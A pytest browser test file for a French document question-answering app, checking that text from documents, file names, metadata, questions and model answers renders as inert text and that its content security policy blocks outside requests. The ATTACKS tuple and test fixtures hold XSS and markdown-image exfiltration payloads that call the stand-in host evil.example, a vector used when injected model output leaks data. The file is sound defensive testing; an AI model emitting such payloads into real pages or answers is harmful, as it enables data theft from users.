"""What documents and models write stays text on the page; every request is recorded, none leaves."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from browser import chromium, served, visiting
from chat_support import PacedLLM
from index_support import CountingEmbedder, Project
from playwright.sync_api import Browser, expect

from qa.api import Sourcier
from qa.chat.session import Extras
from qa.models.e5 import E5Embedder
from qa.models.protocols import Chunk, Message
from qa.settings import load_settings

pytestmark = pytest.mark.browser

ATTACKS = (
    "![x](http://evil.example/image?d=secret)",
    "![x][ref]",
    "[cliquez](http://evil.example/link)",
    "[ref]: http://evil.example/reference",
    '<img src="http://evil.example/tag" onerror="fetch(`http://evil.example/fetch`)">',
    "<script>fetch('http://evil.example/script')</script>",
    "<style>@import url(http://evil.example/style);</style>",
    '<link rel="prefetch" href="http://evil.example/prefetch"><base href="http://evil.example/">',
    '<svg onload="fetch(`http://evil.example/svg`)"></svg>',
    '<iframe src="data:text/html,<script>fetch(`http://evil.example/frame`)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
    "${fetch('http://evil.example/template')}",
    '"><img src=http://evil.example/attribute>',
    '<img src="data:image/svg+xml,<svg xmlns=http://evil.example onload=fetch(1)>">',
)
QUESTION = "Que traverse la rivière Zonzon ?"
FACT = "La rivière Zonzon traverse le village de Brax"
SENTENCES = tuple(f"{FACT} {attack}" for attack in ATTACKS)


@dataclass
class SplitLLM(PacedLLM):
    """The paced model whose chunks are three characters each: every attack is split across some."""

    def stream(
        self, messages: Sequence[Message], *, max_tokens: int, cancel: threading.Event | None = None
    ) -> Iterator[Chunk]:
        for chunk in super().stream(messages, max_tokens=max_tokens, cancel=cancel):
            for start in range(0, len(chunk.text), 3):
                yield Chunk(chunk.text[start : start + 3])
            if chunk.usage is not None:
                yield Chunk("", chunk.usage)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


def test_the_browser_holds_the_page_to_its_policy(browser: Browser, tmp_path: Path) -> None:
    project = Project(load_settings(tmp_path, {}), CountingEmbedder(E5Embedder()))
    project.write({"brax.txt": "Le maire de Brax parle. Il est tard."})
    project.update()
    session = Sourcier.open(project.loaded, llm=PacedLLM(), embedder=project.embedder)
    with session, served(session) as address, visiting(browser, address) as visitor:
        refused = visitor.page.evaluate(
            """async () => {
              const refused = [];
              document.addEventListener("securitypolicyviolation", (event) =>
                refused.push([event.effectiveDirective, event.blockedURI]));
              for (const [tag, name] of [["script", "src"], ["img", "src"], ["iframe", "src"]]) {
                const part = document.createElement(tag);
                part[name] = `http://evil.example/${tag}`;
                document.body.append(part);
              }
              await fetch("http://evil.example/fetch").catch(() => {});
              await new Promise((done) => setTimeout(done, 500));
              return refused;
            }"""
        )
        # Of a frame the browser tells no more than where it would have come from.
        assert {tuple(each) for each in refused} == {
            ("script-src-elem", "http://evil.example/script"),
            ("img-src", "http://evil.example/img"),
            ("frame-src", "http://evil.example"),
            ("connect-src", "http://evil.example/fetch"),
        }


def test_nothing_leaves_the_page(browser: Browser, tmp_path: Path) -> None:
    project = Project(load_settings(tmp_path, {}), CountingEmbedder(E5Embedder()))
    project.write(
        {
            "zonzon.txt": "\n\n".join(f"{sentence}." for sentence in SENTENCES)
            + "\n\n[ref]: http://evil.example/definition\n",
            '<img src=x onerror=fetch("evil.example")>.txt': "Le maire de Brax parle. Il est tard.",
            "![x](evil.example).md": "Le pont de Brax est fermé depuis le mois de mars.",
            "metadata.csv": 'file,title,source\nzonzon.txt,"<img src=http://evil.example/title>",'
            '"![s](http://evil.example/source)"\n',
        }
    )
    project.update()
    # The whole answer holds every attack, and so does what is asked.
    llm = SplitLLM(answers={QUESTION: "\n".join(f"{sentence}." for sentence in SENTENCES) + "\n"})
    extras = Extras(tmp_path / "feedback.jsonl")
    session = Sourcier.open(project.loaded, llm=llm, embedder=project.embedder)
    with session, served(session, extras) as address, visiting(browser, address) as visitor:
        page = visitor.page
        for turn, attack in enumerate(("", *ATTACKS)):
            visitor.ask(f"{QUESTION} {attack}")
            visitor.wait_for("answered", "partial", "refused", turn=turn)
        page.locator("#sources button.open").first.click()
        expect(page.locator("#sources .source.opened")).to_have_count(1)
        for tab in ("Conversations", "Documents", "Sources"):
            page.get_by_role("tab", name=tab).click()
            page.wait_for_timeout(200)
        told = page.locator('#talk .exchange:is([data-state="answered"], [data-state="partial"]) .words')
        assert any("evil.example" in words for words in told.all_inner_texts()), "an attack was answered with"
        assert "evil.example/title" in page.locator("#sources").inner_text()
        assert page.locator("#columns :is(img, iframe, script, link, a[href], object, embed)").count() == 0
        assert visitor.strangers() == []
        # Not even tried: the policy refused nothing.
        assert not [line for line in visitor.complaints if "evil" in line]
